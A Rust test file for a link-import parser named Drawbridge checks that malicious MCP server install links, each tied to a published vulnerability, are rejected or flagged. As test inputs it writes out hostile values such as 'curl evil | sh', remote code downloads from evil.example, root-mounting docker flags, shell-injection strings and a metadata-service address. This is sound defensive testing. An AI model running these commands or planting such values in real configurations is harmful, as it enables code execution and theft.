//! Published attacks with install links, each with its published name, and the rules that prevent it.

use std::fmt::Write as _;

use other_apps::parse_pasted_servers;
use ports::server_config::{ImportNoteKind, ImportPlace};
use serde_json::json;

use super::{drawbridge_link, note_texts, other_app_link, parse_one, rejection_message};

#[test]
fn cve_2025_54133_whole_command_is_shown() {
    let hidden = format!("{}--exfiltrate", " ".repeat(4_000));
    let args = ["-y", "@acme/files", hidden.as_str(), "last"];
    let found = parse_one(&drawbridge_link(
        "files",
        &json!({ "command": "npx", "args": args, "env": { "NODE_OPTIONS": "--require ./x" } }),
    ));
    let stdio = found.config.as_stdio().unwrap();
    assert_eq!(stdio.args, args, "every argument is displayed in full");
    assert_eq!(stdio.env["NODE_OPTIONS"], "--require ./x", "every variable is displayed");
}

#[test]
fn cve_2025_64106_invalid_name_is_rejected() {
    for name in ["Drawbridge: verified", "a b", "", "é", &"n".repeat(65), "a/b", "<b>"] {
        let link = drawbridge_link(&name.replace(' ', "%20"), &json!({ "command": "x" }));
        if name.is_empty() {
            assert_eq!(
                super::describe_server(&parse_one(&link)),
                "x: x {}",
                "a missing name is derived from the command"
            );
            continue;
        }
        let message = rejection_message(&link);
        assert!(
            message.ends_with("a server's name has 1 to 64 letters, digits, \".\", \"-\" or \"_\""),
            "{name:?}: {message}"
        );
    }
    assert_eq!(
        parse_one(&drawbridge_link(&"n".repeat(64), &json!({ "command": "x" }))).name,
        "n".repeat(64),
        "a name of 64 characters is allowed"
    );
}

#[test]
fn chatbox_3627_keys_that_start_a_server_are_rejected() {
    for key in ["enabled", "autoStart", "autostart", "disabled", "start"] {
        let config = json!({ "command": "x", key: true });
        assert!(
            rejection_message(&drawbridge_link("a", &config)).ends_with(&format!("a link may not set {key:?}")),
            "{key} is refused"
        );
        let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", key: true })));
        assert_eq!(
            note_texts(&found),
            [format!("a link may not set these, so they are ignored: {key:?}")],
            "the key is ignored in other apps' links"
        );
    }
}

#[test]
fn cherry_studio_17699_only_displayed_settings_are_set() {
    let internal = [
        "dxtPath",
        "cwd",
        "sandbox",
        "roots",
        "timeout",
        "autoApprove",
        "alwaysAllow",
        "trust",
        "auth",
        "envFile",
        "inputs",
        "protocolVersion",
        "cmd",
        "serverUrl",
    ];
    for key in internal {
        let message = rejection_message(&drawbridge_link("a", &json!({ "command": "x", key: "/tmp/evil" })));
        assert_eq!(
            message,
            format!("this link for Drawbridge can't be used: a link may not set {key:?}"),
            "the key is named in the error"
        );
    }
    let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", "dxtPath": "/tmp/evil" })));
    assert_eq!(found.config.command_line(), "x", "the displayed command is the one that runs");
    assert_eq!(
        note_texts(&found),
        ["a link may not set these, so they are ignored: \"dxtPath\""],
        "the ignored key is named"
    );
    let extra = format!("{}&trust=true", drawbridge_link("a", &json!({ "command": "x" })));
    assert!(rejection_message(&extra).ends_with("a link may not set \"trust\""), "unknown parameters are rejected");
    assert!(
        rejection_message(&drawbridge_link("a", &json!({ "name": "b", "command": "x" }))).ends_with("it has two names"),
        "two names are rejected"
    );
}

#[test]
fn cherry_studio_9509_link_activates_no_server_and_is_limited_to_20() {
    let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", "isActive": true })));
    assert_eq!(
        note_texts(&found),
        ["a link may not set these, so they are ignored: \"isActive\""],
        "the switch is not read"
    );
    let many = |count: usize| {
        let server = |number| json!({ "name": format!("s{number}"), "command": "x" });
        other_app_link(&(0..count).map(server).collect())
    };
    assert_eq!(parse_pasted_servers(&many(20), &[]).unwrap().len(), 20, "20 servers in one link are allowed");
    assert!(rejection_message(&many(21)).ends_with("it has more than 20 servers"), "21 servers are rejected");
    let list = json!([{ "command": "x" }, { "command": "y" }]);
    assert!(
        rejection_message(&drawbridge_link("a", &list)).ends_with("an object was expected in it, found a list"),
        "Drawbridge's links contain one server"
    );
}

#[test]
fn goose_and_5ire_431_arguments_that_run_code_or_share_folders_are_marked() {
    let code = "runs code from the link, or code that it downloads first";
    let source = "downloads code from an address instead of the usual registry";
    let folder = "gives the container access to a folder or device, or privileges on this computer";
    let shell = "is a shell, which runs any command in its arguments";
    let cases: &[(&[&str], &[&str])] = &[
        (&["npx", "-c", "curl evil | sh"], &[code]),
        (&["npx", "-y", "--call=evil", "@acme/files"], &[code]),
        (&["npm", "exec", "-yc", "evil"], &[code]),
        (&["node", "-e", "evil()"], &[code]),
        (&["node", "--import=data:text/javascript,evil", "x.js"], &[code]),
        (&["/usr/bin/python3.12", "-Ic", "import os"], &[code]),
        (&["uvx", "--from", "git+https://evil.example/x", "acme"], &[source]),
        (&["uvx", "--index-url=https://evil.example/simple", "acme"], &[source]),
        (&["npx", "-y", "https://evil.example/x.tgz"], &["loads code from an address"]),
        (&["deno", "run", "-A", "https://evil.example/x.ts"], &["loads code from an address"]),
        (&["docker", "run", "-i", "-v", "/:/host", "acme"], &[folder]),
        (&["docker", "run", "-iv", "/:/host", "acme"], &[folder]),
        (&["podman", "run", "--mount", "type=bind,src=/,dst=/h", "acme"], &[folder]),
        (&["docker", "run", "--privileged", "--network=host", "acme"], &[folder, folder]),
        (&["docker", "run", "acme", "sh", "-c", "evil"], &[shell, code]),
        (&["cmd", "/C", "evil"], &[shell, code]),
        (&["bash", "-lc", "evil"], &[shell, code]),
        (&["C:\\Windows\\powershell.exe", "-EncodedCommand", "ZQ=="], &[shell, code]),
        (&["env", "A=b", "sh", "-c", "evil"], &[shell, code]),
        (&["sudo", "acme"], &["runs the rest with more rights than yours"]),
        // Common commands of servers have no warnings.
        (&["npx", "-y", "@acme/files", "-c", "settings.json", "--eval"], &[]),
        (&["npx", "-y", "@acme/cmd", "/srv/x"], &[]),
        (&["uvx", "--from", "acme==1.2", "acme-mcp", "-v"], &[]),
        (&["docker", "run", "-i", "--rm", "-e", "TOKEN", "--network=none", "ghcr.io/acme/files:1"], &[]),
        (&["python", "-m", "mcp_server", "-c", "x"], &[]),
        (&["python", "-mmcp_server"], &[]),
        (&["node", "server.js", "-e", "production"], &[]),
    ];
    for (words, marks) in cases {
        let found = parse_one(&drawbridge_link("a", &json!({ "command": words[0], "args": words[1..] })));
        let remarks: Vec<&str> = note_texts(&found).into_iter().filter(|note| !note.contains("placeholder")).collect();
        assert_eq!(remarks.len(), marks.len(), "the warnings on {words:?}: {remarks:?}");
        for (remark, mark) in remarks.iter().zip(*marks) {
            assert!(remark.contains(mark), "expected {mark:?} for {words:?}: {remark}");
        }
        assert!(found.usable, "warnings don't block a server");
    }
    let env = json!({ "NODE_OPTIONS": "--require /x", "npm_config_registry": "https://evil.example", "REGION": "eu" });
    let found = parse_one(&drawbridge_link("a", &json!({ "command": "npx", "args": ["-y", "acme"], "env": env })));
    assert_eq!(
        note_texts(&found),
        ["these variables decide which code runs: \"NODE_OPTIONS\", \"npm_config_registry\""],
        "variables can run code as well"
    );
}

#[test]
fn levante_50_known_packages_are_not_treated_differently() {
    for package in ["@modelcontextprotocol/server-filesystem", "@acme/never-published"] {
        let found = parse_one(&drawbridge_link("a", &json!({ "command": "npx", "args": ["-y", package] })));
        assert_eq!((found.notes, found.usable), (Vec::new(), true), "known and unknown packages are displayed alike");
    }
}

#[test]
fn lobehub_14773_command_is_not_run_in_a_shell() {
    let found = parse_one(&drawbridge_link("a", &json!({ "command": "npx acme && touch /tmp/x; $(id) `id`" })));
    let stdio = found.config.as_stdio().unwrap();
    assert_eq!(stdio.command, "npx", "the text is split at its spaces");
    assert_eq!(stdio.args, ["acme", "&&", "touch", "/tmp/x;", "$(id)", "`id`"], "shell operators are plain arguments");
}

#[test]
fn hermes_87581_exactly_one_of_command_and_http_url_is_required() {
    let cases = [
        (json!({ "command": "x", "url": "https://a.example" }), "more than one of \"command\" and \"url\""),
        (json!({}), "there is no server in it"),
        (json!({ "command": "" }), "\"command\" must not be empty"),
        (json!({ "command": ["sh", "-c"] }), "\"command\" must be a text, found a list"),
        (json!({ "command": { "path": "sh" } }), "\"command\" must be a text, found an object"),
        (json!({ "url": "file:///etc/passwd" }), "must begin with https://"),
        (json!({ "url": "ftp://a.example" }), "must begin with https://"),
        (json!({ "url": "ws://a.example" }), "must begin with https://"),
        (json!({ "url": "javascript:alert(1)" }), "must begin with https://"),
        (json!({ "url": "https://ann:pw@a.example" }), "user name or password"),
        (
            json!({ "url": "https://a.example", "type": "stdio" }),
            "its \"type\" is \"stdio\", which does not go with the rest",
        ),
        (json!({ "command": "x", "type": "http" }), "its \"type\" is \"http\", which does not go with the rest"),
        (
            json!({ "url": "https://a.example", "type": "ws" }),
            "its \"type\" is \"ws\", which does not go with the rest",
        ),
        (json!({ "command": "x", "args": "y" }), "\"args\""),
        (json!({ "command": "x", "headers": {} }), "a link may not set \"headers\""),
        (json!({ "url": "https://a.example", "env": {} }), "a link may not set \"env\""),
        (json!({ "url": "https://a.example", "headers": { "Host": "b" } }), "set by Drawbridge itself"),
    ];
    for (config, message) in cases {
        let found = rejection_message(&drawbridge_link("a", &config));
        assert!(found.contains(message), "expected {message:?} for {config}: {found}");
    }
    let twice = "vscode:mcp/install?{\"command\":\"good\",\"command\":\"evil\"}";
    assert!(rejection_message(twice).contains("\"command\" occurs twice"), "duplicate keys are rejected");
}

#[test]
fn hermes_87581_link_is_limited_to_32_kib() {
    let of = |length: usize| {
        let start = "vscode:mcp/install?{\"command\":\"x\",\"args\":[\"";
        format!("{start}{}\"]}}", "a".repeat(length - start.len() - 3))
    };
    assert_eq!(parse_one(&of(32 * 1_024)).config.as_stdio().unwrap().args.len(), 1, "32 KiB are read");
    assert!(
        rejection_message(&of(32 * 1_024 + 1)).starts_with("the link is longer than 32 KiB"),
        "one byte more is rejected"
    );
}

#[test]
fn secrets_in_links_are_separated_and_not_repeated() {
    let token = "sk-proj-4eC39HqLyjWDarjtT1zdp7dc";
    let remote = parse_one(&drawbridge_link(
        "a",
        &json!({ "url": "https://a.example", "headers": { "Authorization": format!("Bearer {token}"), "X-Team": "red" } }),
    ));
    assert_eq!(remote.secrets, ["Authorization"], "the header goes to the keychain");
    let local = parse_one(&drawbridge_link(
        "a",
        &json!({ "command": "x", "env": { "API_KEY": token, "OTHER": token, "REGION": "eu" } }),
    ));
    assert_eq!(local.secrets, ["API_KEY", "OTHER"], "variables are recognized by name or by value");
    let note =
        "the link contains values that look like secrets: \"Authorization\"; everyone who has the link can read them";
    assert_eq!(note_texts(&remote), [note], "the user is warned");
    assert!(!format!("{:?}{:?}", remote.notes, local.notes).contains("4eC39"), "the warning doesn't contain the value");
    for config in [
        json!({ "url": "https://a.example", "headers": { "K": format!("{token}\u{202e}") } }),
        json!({ "command": "x", "env": { "A=": token } }),
        json!({ "command": "x", "env": { "K": [token] } }),
    ] {
        assert!(
            !rejection_message(&drawbridge_link("a", &config)).contains("4eC39"),
            "error messages don't contain the value"
        );
    }
}

#[test]
fn link_cannot_reference_stored_secrets() {
    let named = "${secret:github.GITHUB_TOKEN}";
    for config in [
        json!({ "command": "npx", "args": ["-y", "github"], "env": { "GITHUB_TOKEN": named, "NODE_OPTIONS": "--require /x" } }),
        json!({ "url": "https://evil.example", "headers": { "X": format!("Bearer {named}") } }),
    ] {
        assert!(
            rejection_message(&drawbridge_link("github", &config))
                .contains("refers to a secret that Drawbridge stores"),
            "{config}"
        );
    }
}

#[test]
fn private_address_is_noted() {
    let note = |url: &str| {
        let found = parse_one(&drawbridge_link("a", &json!({ "url": url })));
        note_texts(&found).first().copied().unwrap_or_default().to_owned()
    };
    for url in [
        "http://localhost:3000/mcp",
        "https://127.9.9.9",
        "http://[::1]:80",
        "https://a.localhost",
        "https://[::ffff:127.0.0.1]",
        "https://0.0.0.0",
    ] {
        assert!(note(url).starts_with("its address is on this computer"), "{url}: {}", note(url));
    }
    for url in [
        "https://10.0.0.1",
        "https://192.168.1.1/admin",
        "https://169.254.169.254/latest",
        "https://router",
        "https://nas.local",
        "https://x.internal",
        "https://[fe80::1]",
        "https://100.64.0.1",
        "https://2130706433.lan",
        "https://0xa000001",
    ] {
        assert!(note(url).starts_with("its address is in your network"), "{url}: {}", note(url));
    }
    assert_eq!(note("https://2130706433/"), note("https://127.0.0.1"), "every notation of an address is recognized");
    for url in ["https://mcp.example.com", "https://localhost.example.com", "https://8.8.8.8"] {
        assert_eq!(note(url), "", "{url} is a public address");
    }
    assert_eq!(
        note("https://xn--gthub-n4a.com/mcp"),
        "its host has letters that look like others: it is \"xn--gthub-n4a.com\"",
        "a host with similar letters is noted"
    );
    for url in ["http://mcp.example.com", "http://192.168.1.1", "http://localhost.example.com", "http://nas.local"] {
        assert!(
            rejection_message(&drawbridge_link("a", &json!({ "url": url }))).contains("its address is not encrypted"),
            "{url}"
        );
    }
}

#[test]
fn address_of_a_bridge_is_noted() {
    let notes = |words: &[&str]| {
        let found = parse_one(&drawbridge_link("a", &json!({ "command": "npx", "args": words })));
        note_texts(&found).join("; ")
    };
    let plain = notes(&["-y", "mcp-remote", "http://mcp.example.com/mcp", "--allow-http"]);
    assert!(plain.contains("its address is not encrypted"), "{plain}");
    let local = notes(&["supergateway", "--sse", "https://192.168.1.1/admin"]);
    assert!(local.contains("its address is in your network"), "{local}");
    assert_eq!(notes(&["mcp-remote", "https://mcp.example.com"]), "", "a public address has no warning");
}

#[test]
fn invisible_characters_are_rejected_in_every_value() {
    for hidden in ['\u{202e}', '\u{200b}', '\u{e0041}', '\u{3164}', '\u{ad}', '\u{1b}', '\n', '\u{2028}'] {
        let text = format!("a{hidden}b");
        let configs = [
            json!({ "command": text }),
            json!({ "command": "x", "args": [text] }),
            json!({ "command": "x", "env": { "A": text } }),
            json!({ "url": "https://a.example", "headers": { "A": text } }),
        ];
        for config in configs {
            let message = rejection_message(&drawbridge_link("a", &config));
            let mut code = String::new();
            write!(code, "has an invisible character (U+{:04X})", hidden as u32).unwrap();
            assert!(message.contains(&code), "{config} is refused: {message}");
            assert!(!message.contains(hidden), "and the message does not repeat it");
        }
    }
    let message = rejection_message(&drawbridge_link("a", &json!({ "command": "x", "\u{202e}cwd": 1 })));
    assert!(
        message.ends_with("a link may not set \"\\u{202e}cwd\""),
        "invisible characters in a key are escaped: {message}"
    );
    let long = "k".repeat(10_000);
    let message = rejection_message(&format!(
        "vscode:mcp/install?{{\"command\":\"x\",\"env\":{{\"{long}\":\"a\",\"{long}\":\"b\"}}}}"
    ));
    assert!(message.len() < 1_000, "the message is truncated");
}

#[test]
fn link_leaves_an_existing_server_unchanged() {
    let found = parse_pasted_servers(&drawbridge_link("GitHub", &json!({ "command": "evil" })), &["github".into()])
        .unwrap()
        .remove(0);
    assert_eq!(found.name, "GitHub-2", "the new server gets another name");
    assert_eq!(
        note_texts(&found),
        ["a server \"GitHub\" exists already and stays unchanged: this one would be added as another server"],
        "the user is notified"
    );
}

#[test]
fn warnings_have_kinds_places_and_names() {
    let args = json!(["-c", "npx -y @acme/files", "--volume=/:/host"]);
    let env = json!({ "NODE_OPTIONS": "--require /x" });
    let found = parse_one(&drawbridge_link("a", &json!({ "command": "bash", "args": args, "env": env })));
    let kinds: Vec<_> = found.notes.iter().map(|note| (note.kind, note.names.join(","))).collect();
    assert_eq!(
        kinds,
        [
            (ImportNoteKind::Shell, "bash".to_owned()),
            (ImportNoteKind::CodeOption, "-c".to_owned()),
            (ImportNoteKind::CodeVariables, "NODE_OPTIONS".to_owned()),
        ],
        "the page translates warnings by kind and names"
    );
    assert_eq!(found.notes[0].place, Some(ImportPlace::Command));
    assert_eq!(found.notes[1].place, Some(ImportPlace::Argument { number: 1 }));
}

#[test]
fn long_words_are_truncated_in_warnings() {
    let word = |start: &str| format!("{start}{}", "w".repeat(1_000));
    let program = format!("{}/bash", word("/"));
    let args = [word("-c"), format!("{}/sudo", word("./")), "docker".to_owned(), word("-v:")];
    let env = json!({ (word("TOKEN_")): "correct-horse" });
    let local = json!({ "command": program, "args": args, "env": env });
    let label = "w".repeat(60);
    let remote = json!({ "url": format!("https://{label}.{label}.xn--gthub-n4a.com/mcp") });
    let notes = [local, remote].map(|config| parse_one(&drawbridge_link("a", &config)).notes).concat();
    for kind in [
        ImportNoteKind::Shell,
        ImportNoteKind::CodeOption,
        ImportNoteKind::MoreRights,
        ImportNoteKind::AccessOption,
        ImportNoteKind::LinkSecrets,
        ImportNoteKind::LookalikeHost,
    ] {
        let note = notes.iter().find(|note| note.kind == kind).unwrap_or_else(|| panic!("{kind:?} in {notes:?}"));
        let name = note.names.join(",");
        assert_eq!(name.chars().count(), 81, "the name has 80 characters and an ellipsis: {kind:?}, {name}");
        assert!(note.text.contains(&format!("{name:?}")), "the English text has the same name: {}", note.text);
        let is_host = kind == ImportNoteKind::LookalikeHost;
        let shown = if is_host { name.ends_with(".xn--gthub-n4a.com") } else { name.ends_with('…') };
        assert!(shown, "the end of a host is shown, and the beginning of other words: {kind:?}, {name}");
    }
}
